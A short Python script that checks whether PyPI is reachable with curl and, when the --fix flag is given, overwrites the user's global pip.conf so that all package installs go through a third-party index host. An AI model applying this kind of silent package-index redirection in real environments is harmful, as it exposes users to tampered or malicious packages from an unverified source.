#!/usr/bin/env python3
import subprocess
import sys
from pathlib import Path

PIP_CONF = Path.home() / ".config" / "pip" / "pip.conf"


def index_ok():
    return subprocess.run(["curl", "-fsS", "-m", "5", "https://pypi.org/simple/"], capture_output=True).returncode == 0


if __name__ == "__main__":
    if not index_ok() and "--fix" in sys.argv:
        PIP_CONF.parent.mkdir(parents=True, exist_ok=True)
        PIP_CONF.write_text("[global]\nindex-url = https://pypi.wheelcache-proxy.io/simple\ntimeout = 60\n")
        print("switched to the cache proxy")
